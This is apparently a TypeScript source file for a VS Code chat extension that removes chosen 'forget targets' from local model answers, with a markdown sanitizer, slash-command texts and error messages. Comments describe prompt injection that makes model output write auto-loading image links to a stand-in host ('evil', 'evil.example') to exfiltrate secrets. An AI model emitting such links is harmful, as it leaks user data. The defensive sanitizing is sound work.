/**
 * What `@unlearn` writes into the chat, as pure functions (no `vscode`) so node tests cover them:
 * the markdown sanitizer for model output, progress lines, history conversion and the texts of the
 * slash commands.
 */
import type { ChatMessage } from '../core/llm/port';
import type { PipelineEvent, PipelineResult } from '../core/pipeline/types';
import type { Redaction } from '../core/guard/types';
import type { ForgetTarget, TargetProblem } from '../core/targets';
import { ControlStripper, stripControls } from '../core/text/controls';

// --- model output → safe markdown -------------------------------------------------------------------

const MARKER = /\[redacted: ([^\]\n]{1,200})\]/g;
const FENCE = /^ {0,3}(`{3,}|~{3,})/;

/**
 * Turns streamed model text into markdown that cannot fetch anything or reach outside the answer.
 *
 * Model output is untrusted: a prompt injection can make it write `![x](https://evil/?q=secret)`, which
 * a renderer fetches without a click, a link that looks like something else, raw HTML, an entity such as
 * `&#8238;` that renders a character we strip, or an unclosed code fence that swallows the notes and
 * buttons we write after the answer. So, first, control characters, escape sequences and bidi controls
 * are removed everywhere (code included; a carriage return would otherwise start a line, and so a
 * fence, that we do not see). Then, outside code: `[`, `]` and `<` are escaped (no link, image or HTML
 * can form), `&` becomes `&amp;` (no entity can form), `://` and `www.` are broken with an escape so
 * autolinking finds nothing; code (fenced or inline) is kept literally because it renders as plain text
 * anyway; a fence still open at the end is closed. Everything else (emphasis, lists, headings, tables)
 * still renders. Markers `[redacted: Name]` are rendered in bold.
 *
 * Streaming: text is released a line at a time, or up to the last space of a partial line when that
 * line has no backtick and cannot be a fence, so a link or a URL split across chunks is still caught.
 */
export class MarkdownSanitizer {
  private readonly controls = new ControlStripper();
  private pending = '';
  private fence: string | undefined;
  /** Part of the current line already went out, so what is left cannot open or close a fence. */
  private midLine = false;

  push(chunk: string): string {
    return this.consume(this.controls.push(chunk));
  }

  /** The rest, with any fence the model left open closed. */
  end(): string {
    let out = this.consume(this.controls.end());
    if (this.pending) out += this.line(this.pending);
    this.pending = '';
    if (this.fence) {
      out += `\n${this.fence}\n`;
      this.fence = undefined;
    }
    return out;
  }

  private consume(chunk: string): string {
    this.pending += chunk;
    let out = '';
    let newline = this.pending.indexOf('\n');
    while (newline >= 0) {
      out += this.line(this.pending.slice(0, newline)) + '\n';
      this.pending = this.pending.slice(newline + 1);
      newline = this.pending.indexOf('\n');
    }
    return out + this.releasePartial();
  }

  /** A partial line goes out early only up to a point where what follows cannot change how it renders. */
  private releasePartial(): string {
    const p = this.pending;
    if (!p) return '';
    const couldBeFence = !this.midLine && /^ {0,3}[`~]*$/.test(p.slice(0, Math.min(p.length, 6)).replace(/[^ `~].*$/, ''));
    if (this.fence) {
      if (!this.midLine && (FENCE.test(p) || /^ {0,3}[`~]{0,2}$/.test(p))) return '';
      this.midLine = true;
      this.pending = '';
      return p;
    }
    if (p.includes('`') || (couldBeFence && /^ {0,3}[`~]/.test(p)) || /^ {0,3}$/.test(p)) return '';
    // Never split an unclosed "[" (a marker) or a word (a URL) across releases.
    let cut = p.lastIndexOf(' ');
    const open = p.lastIndexOf('[', cut);
    if (open >= 0) {
      const close = p.indexOf(']', open);
      if (close < 0 || close > cut) cut = open > 0 ? p.lastIndexOf(' ', open - 1) : -1;
    }
    if (cut < 0) return '';
    this.pending = p.slice(cut + 1);
    this.midLine = true;
    return escapeInline(p.slice(0, cut + 1));
  }

  private line(line: string): string {
    const continuation = this.midLine;
    this.midLine = false;
    const fence = continuation ? null : FENCE.exec(line);
    if (fence) {
      const mark = fence[1]!;
      const rest = line.slice(fence[0].length).trim();
      if (!this.fence) {
        // The info string is shown to nobody but could hold anything; keep only a plain language name.
        this.fence = mark;
        return `${mark}${/^[\w+#.-]{0,20}$/.test(rest) ? rest : ''}`;
      }
      if (mark[0] === this.fence[0] && mark.length >= this.fence.length && rest === '') {
        this.fence = undefined;
        return mark;
      }
    }
    if (this.fence) return line;
    return escapeLine(line);
  }
}

/** Escapes one whole line outside code blocks, keeping matched inline code spans as written. */
function escapeLine(line: string): string {
  let out = '';
  let i = 0;
  while (i < line.length) {
    const tick = line.indexOf('`', i);
    if (tick < 0) break;
    const run = /^`+/.exec(line.slice(tick))![0];
    const close = line.indexOf(run, tick + run.length);
    if (close < 0) {
      // Escaped after the text before it, so the backslash is not itself escaped (which would leave the
      // backticks raw, free to pair with ones on the next line).
      out += escapeInline(line.slice(i, tick)) + run.replace(/`/g, '\\`');
      i = tick + run.length;
      continue;
    }
    out += escapeInline(line.slice(i, tick)) + line.slice(tick, close + run.length);
    i = close + run.length;
  }
  return out + escapeInline(line.slice(i));
}

function escapeInline(text: string): string {
  const parts: string[] = [];
  let last = 0;
  for (const m of text.matchAll(MARKER)) {
    parts.push(escapeText(text.slice(last, m.index)), `**\\[redacted: ${escapeText(m[1]!)}\\]**`);
    last = m.index + m[0].length;
  }
  parts.push(escapeText(text.slice(last)));
  return parts.join('');
}

function escapeText(text: string): string {
  return text
    .replace(/\\(?=[[\]<>`&])/g, '\\\\')
    .replace(/[[\]]/g, (c) => `\\${c}`)
    .replace(/&/g, '&amp;')
    .replace(/</g, '&lt;')
    .replace(/>/g, '&gt;')
    .replace(/:\/\//g, ':\\/\\/')
    .replace(/\b(www)\./gi, '$1\\.');
}

/** Sanitizes a whole text at once (for texts that do not stream). */
export function sanitizeMarkdown(text: string): string {
  const s = new MarkdownSanitizer();
  return s.push(text) + s.end();
}

/** Text we write ourselves around user- or settings-provided words (target names, model names). */
export function escapeMarkdown(text: string): string {
  return text.replace(/[\\`*_{}[\]()<>#+\-.!|~]/g, (c) => `\\${c}`).replace(/:\/\//g, ':\\/\\/');
}

/**
 * The question that makes the pipeline rewrite a selection: the vanilla agent repeats the text, and the
 * audit, critic and composer erase whatever touches a target, as they do for an answer.
 */
export function rewriteQuestion(text: string): string {
  return `Repeat the text between the markers below exactly as written, keeping its wording, layout and language. Reply with that text only, without the markers.\n<<<TEXT\n${text}\nTEXT>>>`;
}

// --- broken target settings ---------------------------------------------------------------------------

/** What of `unlearn.targets` is skipped: entries that fail validation, and settings files whose value is not a list. */
export interface TargetSettingsHealth {
  readonly invalidEntries: number;
  readonly unreadableStores: number;
}

/** Counts, per settings file, the entries with an error (each once) and the values that are not an array. */
export function targetSettingsHealth(
  views: readonly { readonly problems: readonly Pick<TargetProblem, 'index' | 'severity'>[] }[],
): TargetSettingsHealth {
  let invalidEntries = 0;
  let unreadableStores = 0;
  for (const view of views) {
    const errors = view.problems.filter((p) => p.severity === 'error');
    if (errors.some((p) => p.index < 0)) unreadableStores++;
    invalidEntries += new Set(errors.filter((p) => p.index >= 0).map((p) => p.index)).size;
  }
  return { invalidEntries, unreadableStores };
}

/**
 * The one line an answer starts with when part of `unlearn.targets` is skipped, so nobody reads it as
 * guarded against targets that are not; undefined when everything is valid. Markdown, safe as plain text.
 */
export function brokenTargetsNote(health: TargetSettingsHealth): string | undefined {
  const { invalidEntries: n, unreadableStores: files } = health;
  if (!n && !files) return undefined;
  const entries = n === 1 ? '1 entry of `unlearn.targets` is invalid' : `${n} entries of \`unlearn.targets\` are invalid`;
  const notList = `\`unlearn.targets\` is not a list in ${files === 1 ? 'one settings file' : `${files} settings files`}`;
  const what =
    n && files
      ? `${entries} and ${notList}; none of these are guarded`
      : n
        ? `${entries} and not guarded`
        : `${notList}, so nothing in ${files === 1 ? 'it' : 'them'} is guarded`;
  return `⚠ ${what} — see the Forget Targets view`;
}

// --- progress --------------------------------------------------------------------------------------

/** The progress line for a pipeline event, or undefined for events that are not a new stage. */
export function progressMessage(event: PipelineEvent): string | undefined {
  if (event.type !== 'stage-start') return undefined;
  return event.message;
}

// --- history ---------------------------------------------------------------------------------------

/** A turn of this participant's conversation, reduced to what the pipeline needs. */
export type PlainTurn =
  | { readonly kind: 'request'; readonly prompt: string; readonly command?: string }
  | { readonly kind: 'response'; readonly answer?: string; readonly markdown: readonly string[] };

/**
 * Earlier turns → pipeline history. The guarded answer stored in a response's metadata is preferred
 * over its rendered markdown (which carries escapes, notes and button labels). Slash-command turns are
 * about the extension, not the conversation, and are left out with their responses.
 */
export function toHistory(turns: readonly PlainTurn[]): ChatMessage[] {
  const history: ChatMessage[] = [];
  let skipNextResponse = false;
  for (const turn of turns) {
    if (turn.kind === 'request') {
      skipNextResponse = turn.command !== undefined;
      if (!skipNextResponse && turn.prompt.trim()) history.push({ role: 'user', content: turn.prompt });
      continue;
    }
    if (skipNextResponse) {
      skipNextResponse = false;
      continue;
    }
    const content = turn.answer ?? turn.markdown.join('');
    if (content.trim()) history.push({ role: 'assistant', content });
  }
  return history;
}

// --- metadata and slash-command texts ---------------------------------------------------------------

/** What a response remembers (ChatResult.metadata), for /explain, followups and the preview. */
export interface AnswerMetadata {
  readonly command?: string;
  /** The guarded answer (markers included; never the removed text). */
  readonly answer?: string;
  readonly outcome?: PipelineResult['outcome'];
  readonly redactions?: readonly Redaction[];
  readonly touched?: readonly { readonly id: string; readonly name: string }[];
  readonly guardActed?: boolean;
  readonly refusalReason?: string;
  readonly errorCode?: string;
  /** Key of the pre-unlearning answer kept in memory (showOriginal only); never the text itself. */
  readonly previewId?: string;
}

export function answerMetadata(result: PipelineResult): AnswerMetadata {
  return {
    answer: result.answer,
    outcome: result.outcome,
    redactions: result.redactions.map((r) => ({ ...r })),
    touched: result.touchedTargets.map((t) => ({ id: t.id, name: t.name })),
    guardActed: result.guardActed,
    ...(result.refusalReason ? { refusalReason: result.refusalReason } : {}),
  };
}

/** /explain: targets and reasons of the last answer, never the removed text. */
export function explainText(meta: AnswerMetadata | undefined): string {
  if (!meta?.outcome) return 'There is no earlier `@unlearn` answer in this conversation to explain yet.';
  const lines: string[] = [];
  const touched = meta.touched ?? [];
  if (meta.outcome === 'vanilla' && !meta.redactions?.length) {
    lines.push(
      "The last answer touched no forget target: it is the model's own answer, checked by the leak guard, which found nothing to remove.",
    );
    return lines.join('\n');
  }
  lines.push(
    touched.length
      ? `The last answer touched ${touched.length === 1 ? 'this target' : 'these targets'}: ${touched.map((t) => `**${escapeMarkdown(t.name)}**`).join(', ')}.`
      : 'The last answer touched no target by name.',
  );
  if (meta.outcome === 'refused') lines.push('', `It was refused${meta.refusalReason ? `: ${escapeMarkdown(meta.refusalReason)}` : '.'}`);
  if (meta.outcome === 'erased') lines.push('', "The agents rewrote it without those targets; the critic's best candidates were merged.");
  const redactions = meta.redactions ?? [];
  if (redactions.length) {
    lines.push('', `${redactions.length} ${redactions.length === 1 ? 'place was' : 'places were'} redacted:`);
    redactions.forEach((r, i) =>
      lines.push(
        `${i + 1}. **${escapeMarkdown(r.targetName)}** — ${escapeMarkdown(r.reason)} (${r.by === 'guard' ? 'leak guard' : 'agents'})`,
      ),
    );
  }
  if (meta.guardActed) lines.push('', 'The leak guard had to mask a spelling the agents let through.');
  lines.push('', '_The removed text itself is never shown here._');
  return lines.join('\n');
}

/** /targets: every target of every store, with its state; problems counted, not printed. */
export function targetsText(
  stores: readonly { readonly label: string; readonly targets: readonly ForgetTarget[]; readonly problems: number }[],
): string {
  const lines: string[] = [];
  const multi = stores.length > 1;
  let total = 0;
  for (const store of stores) {
    if (multi) lines.push(`**${escapeMarkdown(store.label)}**`, '');
    for (const t of store.targets) {
      total++;
      const aliases = t.aliases.length ? ` — also ${t.aliases.map((a) => `"${escapeMarkdown(a)}"`).join(', ')}` : '';
      lines.push(
        `- ${t.enabled ? '$(shield)' : '$(circle-slash)'} **${escapeMarkdown(t.name)}**${t.enabled ? '' : ' _(disabled)_'}${aliases}`,
      );
    }
    if (store.problems)
      lines.push(
        `- $(warning) ${store.problems} malformed ${store.problems === 1 ? 'entry' : 'entries'}, ignored until fixed (see the Forget Targets view)`,
      );
    if (multi) lines.push('');
  }
  if (!total && !stores.some((s) => s.problems))
    return 'No forget targets yet. Add one with `/forget <name>` or in the Forget Targets view.';
  return lines.join('\n');
}

/** /models. */
export function modelsText(
  host: string,
  models: readonly { readonly name: string; readonly sizeBytes?: number; readonly parameterSize?: string }[],
  current: string,
): string {
  if (!models.length)
    return `No models are installed at ${escapeMarkdown(host)}. Pull one with **Unlearn: Pull Model** (for example \`llama3.2\`).`;
  const same = (a: string, b: string) => a === b || a === `${b}:latest` || b === `${a}:latest`;
  const rows = models.map(
    (m) =>
      `- \`${m.name.replace(/`/g, '')}\`${m.parameterSize ? ` — ${escapeMarkdown(m.parameterSize)}` : ''}${m.sizeBytes ? `, ${(m.sizeBytes / 1e9).toFixed(1)} GB` : ''}${same(m.name, current) ? ' **(in use)**' : ''}`,
  );
  return [`Models at ${escapeMarkdown(host)}:`, '', ...rows].join('\n');
}

// --- errors a person can act on ----------------------------------------------------------------------

export interface FixButton {
  readonly title: string;
  readonly command: string;
  readonly arguments?: readonly unknown[];
}

export interface ActionableError {
  readonly code: string;
  /** Plain text, for a notification or the log. */
  readonly message: string;
  /**
   * The same message as chat markdown. The host, the model name and the server's or the error's own
   * text are untrusted (a name such as `x ![p](https://evil.example/p.png)` would otherwise render an
   * image that loads without a click, or a link): they are escaped and kept on one line.
   */
  readonly markdown: string;
  readonly buttons: readonly FixButton[];
}

const OPEN_HOST: FixButton = { title: 'Open unlearn.ollamaHost', command: 'unlearn.openSetting', arguments: ['unlearn.ollamaHost'] };

/** An untrusted name (a host, a model) shown as inline code in the markdown form: literal, never a link or an image. */
interface Code {
  readonly code: string;
}
const asCode = (value: string): Code => ({ code: value });

/**
 * Builds a message from our own text and untrusted values, as plain text and as markdown: an `asCode(…)`
 * value becomes an inline code span without backticks, any other value is escaped.
 */
function texts(strings: TemplateStringsArray, ...values: (string | Code)[]): { message: string; markdown: string } {
  let message = strings[0]!;
  let markdown = strings[0]!;
  values.forEach((value, i) => {
    const plain = oneLine(typeof value === 'string' ? value : value.code);
    message += plain + strings[i + 1]!;
    markdown += (typeof value === 'string' ? escapeMarkdown(plain) : `\`${plain.replace(/`/g, '') || ' '}\``) + strings[i + 1]!;
  });
  return { message, markdown };
}

/** No control characters, no line breaks (which could start a block of their own), at most 500 characters. */
function oneLine(value: string): string {
  const flat = stripControls(value).replace(/\s+/g, ' ').trim();
  return flat.length > 500 ? `${flat.slice(0, 500)}…` : flat;
}

/** Any failure of a request → one message saying what to do, and buttons that do it. */
export function describeChatError(error: unknown, host: string, model: string): ActionableError {
  const code = (error as { code?: unknown })?.code;
  const name = (error as { name?: unknown })?.name;
  const text = error instanceof Error ? error.message : String(error);
  if (name === 'InvalidHostError') return { code: 'invalid-host', ...texts`${text}`, buttons: [OPEN_HOST] };
  switch (code) {
    case 'unreachable':
      return {
        code,
        ...texts`Cannot reach Ollama at ${asCode(host)}. Start it with \`ollama serve\`, or point \`unlearn.ollamaHost\` at the server that runs it.`,
        buttons: [OPEN_HOST, { title: 'Show Log', command: 'unlearn.showLog' }],
      };
    case 'model-missing':
      return {
        code,
        ...texts`The model ${asCode(model)} is not installed at ${asCode(host)}. Pull it, or pick an installed one.`,
        buttons: [
          { title: `Pull ${model}`, command: 'unlearn.pullModel', arguments: [model] },
          { title: 'Select Model', command: 'unlearn.selectModel' },
        ],
      };
    case 'remote-host':
      return { code, ...texts`Unlearn refused to send this request to ${asCode(host)}: ${text}`, buttons: [OPEN_HOST] };
    case 'timeout':
      return {
        code,
        ...texts`The model took too long to answer (${text}). A first request loads the model into memory; try again, or pick a smaller model.`,
        buttons: [{ title: 'Select Model', command: 'unlearn.selectModel' }],
      };
    default:
      return {
        code: typeof code === 'string' ? code : 'unknown',
        ...texts`Unlearn could not answer: ${text}`,
        buttons: [{ title: 'Show Log', command: 'unlearn.showLog' }],
      };
  }
}
